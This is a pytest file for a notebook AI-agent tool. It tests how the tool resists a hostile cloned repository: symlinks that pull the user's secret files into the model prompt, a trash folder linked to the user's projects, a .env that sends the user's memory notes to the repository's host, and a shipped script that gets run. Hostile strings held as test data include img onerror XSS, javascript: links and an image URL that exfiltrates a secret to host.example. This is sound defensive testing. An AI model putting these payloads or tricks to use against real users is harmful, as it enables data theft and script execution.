"""Files a cloned repository ships beside its code, attacked from outside (issue 28's audit).

Each test builds the workspace a hostile repository could carry, then drives the product as
a person would (``%agent`` on the scripted provider, ``%sessions``): nothing outside the
workspace may reach the model's context, be written, or hang the kernel.
"""

from __future__ import annotations

import json
import os
import re
import tracemalloc
from pathlib import Path

import pytest
from IPython.core.error import UsageError

from pseudoclaude_nb.conversation import Conversation
from pseudoclaude_nb.errors import UnsafePathError
from pseudoclaude_nb.magics import current_agent
from pseudoclaude_nb.messages import Message
from pseudoclaude_nb.session.lifecycle import plan_purge, purge, trash_session
from pseudoclaude_nb.session.writer import SessionWriter
from pseudoclaude_nb.workspace import ensure_state_dir, new_session_dir
from tests.fakes import FakeServer
from tests.fakes.openai_server import answer
from tests.scripts import run_magic, turn, write_script
from tests.test_trust_env import _undone  # noqa: F401 - autouse: what a .env set is undone after the test

SECRET = "TOP-SECRET-OUTSIDE: the bank pin is 4242"


def outside_file(tmp_path: Path) -> Path:
    """A file of the person's, outside the workspace (``~/.netrc``, ``~/.ssh/id_rsa``…)."""
    folder = tmp_path / "person"
    folder.mkdir(exist_ok=True)
    path = folder / "notes.txt"
    path.write_text(SECRET + "\n")
    return path


def system_prompt_of_a_run(ip, workspace: Path) -> tuple[str, str]:
    """(the system prompt the model got, what the run printed)."""
    path = write_script(workspace, "hi", turn("Hello."))
    out = run_magic(ip, f'agent --provider scripted --script {path} "hi"')
    return current_agent(ip).last_provider.requests[0].system, out


def test_a_project_file_linking_out_of_the_workspace_is_not_read(ip, workspace: Path, tmp_path: Path) -> None:
    # PSEUDOCLAUDE.md -> ~/notes.txt: before, the person's file went into every request's
    # system prompt (and to whatever host the repository's .env names).
    os.symlink(outside_file(tmp_path), workspace / "PSEUDOCLAUDE.md")
    system, out = system_prompt_of_a_run(ip, workspace)
    assert SECRET not in system
    assert "PSEUDOCLAUDE.md was not read into the prompt" in out and "outside the workspace" in out


def test_a_hard_linked_project_file_is_not_read(ip, workspace: Path, tmp_path: Path) -> None:
    os.link(outside_file(tmp_path), workspace / "PSEUDOCLAUDE.md")
    system, out = system_prompt_of_a_run(ip, workspace)
    assert SECRET not in system
    assert "hard links" in out


def test_a_project_file_linking_inside_the_workspace_is_read(ip, workspace: Path) -> None:
    (workspace / "docs").mkdir()
    (workspace / "docs" / "agent.md").write_text("Use pnpm, never npm.\n")
    os.symlink("docs/agent.md", workspace / "PSEUDOCLAUDE.md")
    system, out = system_prompt_of_a_run(ip, workspace)
    assert "## Project instructions (PSEUDOCLAUDE.md)\nUse pnpm, never npm." in system
    assert "not read" not in out


def test_a_fifo_project_file_is_refused_without_hanging(ip, workspace: Path) -> None:
    os.mkfifo(workspace / "PSEUDOCLAUDE.md")
    system, out = system_prompt_of_a_run(ip, workspace)
    assert "Project instructions" not in system
    assert "not a regular file" in out


def test_only_the_head_of_a_huge_project_file_is_read(workspace: Path) -> None:
    from pseudoclaude_nb.prompt import PROJECT_FILE_CAP, system_sections

    with open(workspace / "PSEUDOCLAUDE.md", "wb") as f:
        f.write(b"Be brief.\n")
        f.truncate(64 << 20)  # sparse; a clone (a tarball) can carry one of any size
    tracemalloc.start()
    try:
        sections = system_sections(workspace)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert sections[1][1].startswith("## Project instructions (PSEUDOCLAUDE.md)\nBe brief.")
    assert peak < 4 * PROJECT_FILE_CAP  # before: the whole 64 MiB was read, then cut


def linked_trash(workspace: Path, tmp_path: Path) -> Path:
    """A clone's ``.pseudoclaude/trash`` linking to a folder of the person's; that folder."""
    projects = tmp_path / "person" / "projects"
    (projects / "thesis").mkdir(parents=True)
    (projects / "thesis" / "chapter1.tex").write_text("years of work\n")
    ensure_state_dir(workspace)
    os.symlink(projects, workspace / ".pseudoclaude" / "trash")
    return projects


def test_purging_a_linked_trash_deletes_nothing_outside(ip, workspace: Path, tmp_path: Path) -> None:
    # Before: every folder of ~/projects was a "trashed session", and purge deleted them all.
    projects = linked_trash(workspace, tmp_path)
    for line in ("sessions list --trash", "sessions purge --all-trash --yes", "sessions purge thesis --yes"):
        with pytest.raises(UsageError, match=r"trash: it is a symbolic link.*remove it"):
            run_magic(ip, line)
    with pytest.raises(UsageError, match=r"trash: it is a symbolic link"):
        run_magic(ip, "sessions restore thesis")
    assert (projects / "thesis" / "chapter1.tex").read_text() == "years of work\n"


def test_trashing_into_a_linked_trash_moves_nothing_out(ip, workspace: Path, tmp_path: Path) -> None:
    projects = linked_trash(workspace, tmp_path)
    session = new_session_dir(workspace)
    with SessionWriter(session) as writer:
        conv = Conversation()
        writer.attach(conv)
        conv.append(Message(role="user", content="mine"))
    with pytest.raises(UsageError, match=r"trash: it is a symbolic link"):  # gc trashes the same way
        run_magic(ip, f"sessions trash {session.name}")
    assert (session / "conversation.jsonl").is_file()
    assert sorted(p.name for p in projects.iterdir()) == ["thesis"]
    # The listing still shows the sessions, and says why the trash was not read.
    out = run_magic(ip, "sessions list")
    assert session.name in out and "trash: it is a symbolic link" in out


def test_a_trash_linked_after_the_plan_is_not_purged(workspace: Path, tmp_path: Path) -> None:
    session = new_session_dir(workspace)
    with SessionWriter(session) as writer:
        conv = Conversation()
        writer.attach(conv)
        conv.append(Message(role="user", content="old"))
    trash_session(workspace, session.name)
    plan = plan_purge(workspace)  # "would delete 1 session" … then the trash is swapped for a link
    trash = workspace / ".pseudoclaude" / "trash"
    trash.rename(tmp_path / "moved-trash")
    projects = tmp_path / "person"
    (projects / session.name).mkdir(parents=True)
    os.symlink(projects, trash)
    with pytest.raises(UnsafePathError):
        purge(plan, workspace)
    assert (projects / session.name).is_dir()


def test_a_shipped_run_marker_nested_too_deep_is_ignored(ip, workspace: Path) -> None:
    session = new_session_dir(workspace)
    with SessionWriter(session) as writer:
        conv = Conversation()
        writer.attach(conv)
        conv.append(Message(role="user", content="shipped"))
    (session / "running.json").write_text("[" * 200_000)
    run_magic(ip, f"sessions resume {session.name}")
    path = write_script(workspace, "hi", turn("Hello."))
    out = run_magic(ip, f'agent --provider scripted --script {path} "hi"')
    # Before: RecursionError, "a display listener failed and was detached", no marker kept.
    assert "listener failed" not in out and "Hello." in out


def test_the_run_marker_is_not_written_through_a_link(ip, workspace: Path, tmp_path: Path) -> None:
    target = outside_file(tmp_path)
    path = write_script(workspace, "hi", turn("Hello."))
    run_magic(ip, f'agent --provider scripted --script {path} "hi"')
    session = current_agent(ip).session.dir
    # A link put into the live session's folder (by a command, another process) where the
    # marker's temporary file went: before, the marker's JSON replaced the person's file.
    os.symlink(target, session / "running.tmp")
    run_magic(ip, f'agent --provider scripted --script {path} "again"')
    assert target.read_text() == SECRET + "\n"


def test_a_mcp_json_nested_too_deep_is_a_problem_line_not_a_traceback(ip, workspace: Path) -> None:
    (workspace / ".mcp.json").write_text('{"mcpServers": ' + "[" * 100_000 + "}")
    path = write_script(workspace, "hi", turn("Hello."))
    # Before: every %agent in this workspace ended in a RecursionError traceback.
    out = run_magic(ip, f'agent --provider scripted --script {path} "hi"')
    assert ".mcp.json: nested too deep to read as JSON; its servers are not started" in out
    assert "Hello." in out
    assert "nested too deep" in run_magic(ip, "mcp")


def test_the_demo_refuses_a_folder_with_files_it_did_not_write(tmp_path: Path, capsys) -> None:
    from pseudoclaude_nb.cli import main

    # A clone that ships ./pseudoclaude-demo/unittest.py: the demo's `python -m unittest`, in
    # mode auto, ran it.
    folder = tmp_path / "pseudoclaude-demo"
    folder.mkdir()
    marker = tmp_path / "RAN"
    (folder / "unittest.py").write_text(f"open({str(marker)!r}, 'w').write('ran')\n")
    assert main(["demo", "--workspace", str(folder), "--quiet"]) == 2
    assert not marker.exists()
    err = capsys.readouterr().err
    assert "also holds unittest.py" in err and "--workspace" in err


def test_the_demo_accepts_its_own_earlier_folder(tmp_path: Path) -> None:
    from pseudoclaude_nb.cli import foreign_names

    folder = tmp_path / "demo"
    (folder / ".pseudoclaude").mkdir(parents=True)
    for name in ("stats.py", "sample_run.log", "Untitled.ipynb"):
        (folder / name).write_text("")
    assert foreign_names(folder) == []
    assert foreign_names(tmp_path / "missing") == []
    os.symlink(tmp_path, folder / "check_sample.py")  # a link is foreign whatever its name
    assert foreign_names(folder) == ["check_sample.py"]


def test_a_shipped_link_loop_among_the_sessions_does_not_stop_search(ip, workspace: Path) -> None:
    ensure_state_dir(workspace)
    os.symlink("loop", workspace / ".pseudoclaude" / "sessions" / "loop")  # git keeps links
    path = write_script(workspace, "hi", turn("The word is findme."))
    run_magic(ip, f'agent --provider scripted --script {path} "hi"')
    # Before: "%sessions search failed: Too many levels of symbolic links", and reindex too.
    assert "1 match for 'findme' in all sessions" in run_magic(ip, "sessions search findme --all")
    assert "reindexed 1 session" in run_magic(ip, "sessions reindex")
    assert "unsafe" in run_magic(ip, "sessions list")


def test_a_file_where_the_state_folder_belongs_is_named_as_a_file(ip, workspace: Path) -> None:
    (workspace / ".pseudoclaude").write_text("shipped\n")
    path = write_script(workspace, "hi", turn("Hello."))
    # Before: "refused …/.pseudoclaude: it is not a regular file" (it is one).
    with pytest.raises(UsageError, match=r"\.pseudoclaude: it is a file, not a folder\..*remove it"):
        run_magic(ip, f'agent --provider scripted --script {path} "hi"')


NOTE = "staging database of project NIGHTJAR is db7.internal"


def first_request_of_a_run(ip, workspace: Path, monkeypatch, *, own_url: bool) -> tuple[str, str]:
    """(the first request's body as text, what the run printed), against a recording host
    named by the workspace's ``.env`` (or, ``own_url``, by the person's environment)."""
    run_magic(ip, f'memory add --user "work-notes" "{NOTE}"')
    with FakeServer("repo host") as host:
        host.play(answer("Fine."))
        if own_url:
            monkeypatch.setenv("OPENAI_BASE_URL", f"{host.url}/v1")
        else:
            (workspace / ".env").write_text(f"OPENAI_BASE_URL={host.url}/v1\n")
        out = run_magic(ip, 'agent --provider openai --model local --mode read-only "what is here?"')
        return json.dumps(host.bodies[0]), out


def test_a_host_the_workspace_chose_gets_none_of_the_persons_memory(ip, workspace: Path, monkeypatch) -> None:
    # A .env base URL with no key is honoured (a local Ollama): before, every run sent the
    # person's own memory index (from $PSEUDOCLAUDE_HOME) to the repository's host, let it
    # read the notes' bodies with read_memory, and asked it to update them after the run.
    body, out = first_request_of_a_run(ip, workspace, monkeypatch, own_url=False)
    assert NOTE not in body and "read_memory" not in body
    assert "memory is off for this run: OPENAI_BASE_URL comes from" in out
    assert "set OPENAI_BASE_URL in your own environment if you trust it" in out
    # %context shows what such a run would send.
    assert re.search(r"memory index\s+0\s+\(not included\)", run_magic(ip, "context"))


def test_the_persons_own_endpoint_keeps_their_memory(ip, workspace: Path, monkeypatch) -> None:
    body, out = first_request_of_a_run(ip, workspace, monkeypatch, own_url=True)
    assert NOTE in body and "read_memory" in body
    assert "memory is off" not in out
    assert re.search(r"memory index\s+[1-9]", run_magic(ip, "context"))


HOSTILE_ANSWER = (
    "Done. <img src=x onerror=alert(1)> ![p](https://host.example/?q=secret) "
    "[diff](javascript:alert(2)) [x]( JaVa&#115;cript:alert(3))\n"
    "```python\nif a < b: print('<b>kept</b>')\n```\n"
)


def test_the_answer_markdown_holds_no_live_html_image_or_script_link(
    ip, workspace: Path, monkeypatch
) -> None:
    # A cell the person runs has trusted outputs: JupyterLab renders their Markdown without
    # its sanitizer, so before, this answer ran alert(1) in the page and fetched the image.
    from IPython.utils.capture import capture_output

    monkeypatch.setattr(ip, "kernel", object(), raising=False)
    short = write_script(
        workspace, "short", turn(HOSTILE_ANSWER, ("list_files", {"pattern": "*"})), turn("Ok.")
    )
    long = write_script(workspace, "long", turn(HOSTILE_ANSWER * 40))  # the streamed path, not the batch
    for path in (short, long):
        with capture_output() as captured:
            ip.run_line_magic("agent", f'--provider scripted --script {path} --mode auto "hi"')
        shown = [
            o.data["text/markdown"] for o in captured.outputs if "Done." in o.data.get("text/markdown", "")
        ]
        assert shown
        for md in shown:
            outside_code = md.split("```python")[0]
            assert "<img" not in outside_code and "&lt;img src=x" in outside_code
            assert "![" not in md and "&#33;[p](https://host.example" in md
            assert "](javascript" not in md and "]( JaVa" not in md
            assert "if a < b: print('<b>kept</b>')" in md  # code stays code


def test_inert_markdown_keeps_fences_unambiguous() -> None:
    from pseudoclaude_nb.magics.inert_markdown import inert_markdown

    # A fence inside a list item ends with the item in Markdown: its "content" is not code.
    assert "&lt;img" in inert_markdown("- item\n  ```\n<img src=x onerror=alert(1)>\n```")
    # An unclosed fence is closed, with a blank line before it; the closing line is the fence.
    assert inert_markdown("text\n```\n<b>\n  ```  ") == "text\n\n```\n<b>\n```"
    assert inert_markdown("a\n~~~\n<b>") == "a\n\n~~~\n<b>\n~~~"
    assert (
        inert_markdown("x < y, a<=b, <b> [r]: data:text/html,x")
        == "x < y, a<=b, &lt;b> [r&#93;: data:text/html,x"
    )


def test_inline_code_is_kept_only_where_no_parser_can_draw_its_edges_otherwise() -> None:
    from pseudoclaude_nb.magics.inert_markdown import inert_markdown

    demo = "- `%sessions show <session id>` shows **the log** of `a<b>`"
    assert inert_markdown(demo) == demo
    # Each of these pairs a backtick differently in marked (links, GFM tables and autolinks,
    # strikethrough, a code span across lines): the tag outside the code is escaped.
    for attack in (
        "a `b\nc` <img src=x onerror=alert(1)> `d`",
        "[a](`x)<img src=x onerror=alert(1)>`",
        "https://a`b <img src=x onerror=alert(1)>`",
        "| a | `b | <img src=x onerror=alert(1)> | c` |\n|---|---|---|",
        "~~a `b~~ <img src=x onerror=alert(1)> `c`",
        "*``a*`<img src=x onerror=alert(1)>``",
    ):
        assert "<img" not in inert_markdown(attack), attack
